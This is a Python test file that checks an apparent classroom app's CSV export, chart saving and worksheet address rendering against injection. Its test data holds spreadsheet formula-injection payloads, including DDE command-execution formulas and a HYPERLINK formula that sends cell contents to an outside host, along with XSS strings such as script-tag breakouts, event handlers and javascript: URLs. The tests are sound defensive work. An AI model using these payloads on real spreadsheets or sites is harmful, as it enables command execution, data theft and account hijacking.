"""What is taken away and opened elsewhere: in a spreadsheet no text is computed, on a page none is markup."""

import csv
import io
import json
import os
from html.parser import HTMLParser
from types import SimpleNamespace

import numpy as np
import pytest

from lesson.classroom.asking import REVEALED
from lesson.classroom.export import as_csv
from lesson.classroom.server import form
from lesson.course.worksheets.address import address_html, address_of
from tests.bad_input.doors import MARKUP
from tests.browser.class_votes import class_of
from visualization import plot_cell_state_evolution, plot_gate_activations, save_chart

SIGNS = "=+-@＝＋－＠"
CELLS = {
    "a sum": "=1+1",
    "a program": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("https://e.co/?"&A1;"bad")',
    "a picture": '=IMAGE("https://e.co/a")',
    "full width": "＝1+1",
    "full width plus": "＋1",
    "full width minus": "－1",
    "full width at": "＠SUM(1)",
    "blanks before": "   =1+1",
    "a wide blank before": "\u3000=1+1",
    "a line end before": "\n=1+1",
    "a tab before": "\t=1+1",
    "behind a comma": "x,=1+1",
    "behind a comma and quotes": 'x","=1+1","y',
    "behind a semicolon": "x;=1+1",
    "behind a semicolon and a blank": "x; =1+1",
    "behind a semicolon and a wide blank": "x;\u3000+1",
    "behind a semicolon and a quote": 'x;"=1+1',
    "behind a semicolon and quotes": 'x;"" "@SUM(1);y',
    "behind each semicolon": "=1;+1;-1;@x",
    "behind semicolons": ";;;=1+1",
    "a program behind a semicolon": "x;=cmd|' /C calc'!A0;y",
    "full width behind a semicolon": "x;＝1+1",
    "behind a line end": "x\n=1+1",
    "behind a carriage return": "x\r=1+1",
    "behind a tab": "x\t=1+1",
    "behind a line of Unicode's": "x\u2028=1+1",
}


def asked(text):
    """The question that a lecturer types: with the text in question and answers."""
    return form.typed({"typed": {"text": text, "answers": [text, f"{text} 2"], "right": 0}})


def is_computed(cell):
    """Whether a spreadsheet computes a cell; a number with its sign is a number."""
    cell = cell.strip()
    return cell[:1] in tuple(SIGNS) and not cell[1:].replace(".", "", 1).isdigit()


@pytest.mark.parametrize("name", CELLS)
@pytest.mark.parametrize("between", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_no_text_of_an_export_is_computed(name, between):
    """Whichever sign a spreadsheet takes to stand between cells: that depends on its language."""
    text = as_csv(class_of(asked(CELLS[name]), REVEALED, 6, 2), with_handles=True)
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=between) for cell in row]
    if between != ",":  # a quote within a cell is no quote then, and bounds nothing
        cells += [cell.strip('"') for line in text.splitlines() for cell in line.split(between)]
    assert not [cell for cell in cells if is_computed(cell)]


@pytest.mark.parametrize("name", CELLS)
def test_a_text_stays_readable_in_an_export(name):
    question = asked(CELLS[name])
    rows = list(csv.DictReader(io.StringIO(as_csv(class_of(question, REVEALED, 3)))))
    assert {row["text"].replace("'", "") for row in rows} == {question.text.replace("'", "")}


def test_what_is_computed_would_be_noticed():
    assert all(is_computed(cell) for cell in ("=1+1", " @x", "-1+2")) and not is_computed("-1.5")


class Tags(HTMLParser):
    """What a page is made of: its tags, and the names and values of their attributes."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.words, self.count = set(), set(), "", 0
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.count += 1
        self.attributes |= {name for name, _ in attributes}

    def handle_data(self, words):
        self.words += words


# -- charts --

TOKENS = {
    "the end of the script": "</script><img src=x onerror=alert(1)>",
    "the end in capitals": "</SCRIPT ><svg onload=alert(1)>",
    "a comment and a script": "<!--<script>",
    "an expression": "datum.value",
    "a label": "datum.label",
    "the end of an expression": '"]+alert(1)+["',
    "a signal": "signal('x')",
    "a field with brackets": "a['b'].c\\",
    "a place": "${alert(1)}",
    "lines of Unicode's": "\u2028\u2029",
    "markup": MARKUP,
}


@pytest.mark.slow  # it needs what the fast tests' machines may lack
@pytest.mark.parametrize("name", TOKENS)
@pytest.mark.parametrize("plot", [plot_gate_activations, plot_cell_state_evolution], ids=["gates", "states"])
def test_a_text_in_a_saved_chart(tmp_path, plot, name):
    """A text can be a list of words, too.  Each is in the chart as it is, and is no part of the page."""
    if not os.environ.get("CI"):
        pytest.importorskip("vl_convert")
    values = np.linspace(0, 1, 8).reshape(2, 4)
    gates = dict.fromkeys("fio", values) if plot is plot_gate_activations else values
    plain, hostile = (
        Tags(
            save_chart(plot(gates, ["a", token]), tmp_path / "chart.html").read_text("utf-8", "surrogatepass")
        )
        for token in ("b", TOKENS[name])
    )
    assert (hostile.tags, hostile.attributes) == (plain.tags, plain.attributes)
    assert hostile.count == plain.count
    assert json.dumps(TOKENS[name])[1:-1].replace("<", "\\u003c") in hostile.words


def test_half_a_character_is_drawn_as_a_sign(tmp_path):
    chart = plot_cell_state_evolution(np.linspace(-1, 1, 8).reshape(2, 4), "a\ud800")
    assert [row["character"] for row in next(iter(chart.to_dict()["datasets"].values()))][-1] == "\ufffd"


# -- worksheets --


ADDRESSES = {
    "markup": f"http://h/gates?x={MARKUP}",
    "the end of an attribute": "http://h/\"><script>alert(1)</script><p a='",
    "the end of the style": "http://h/</style><script>alert(1)</script>",
    "a comment": "http://h/--><!--<svg onload=alert(1)>",
    "an entity": "http://h/?a=&lt;script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "a script's address": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "no address": "http://[",
    "half a character": "http://h/\ud800",
    "no port": "http://h:99999999/x",
    "NUL": "http://h/\0\0",
    "turned around": "http://h/\u202egpj.exe",
    "nothing": "",
    "a number": 5,
    "too long": "http://h/" + "é" * 5_000,
}
OURS = {"div", "p", "b", "span", "svg", "g", "path"}


@pytest.mark.parametrize("name", ADDRESSES)
def test_the_address_on_a_worksheet(monkeypatch, name):
    """It is what the visitor's browser says."""
    server = SimpleNamespace(context=SimpleNamespace(url="http://server/gates"))
    monkeypatch.setattr("lesson.course.worksheets.address.st", server)
    found = Tags(address_html(address_of(ADDRESSES[name])))
    assert found.tags <= OURS and not {
        name for name in found.attributes if name[:2] == "on" or "href" in name
    }
    assert found.words.startswith("http") and json.dumps(found.words)
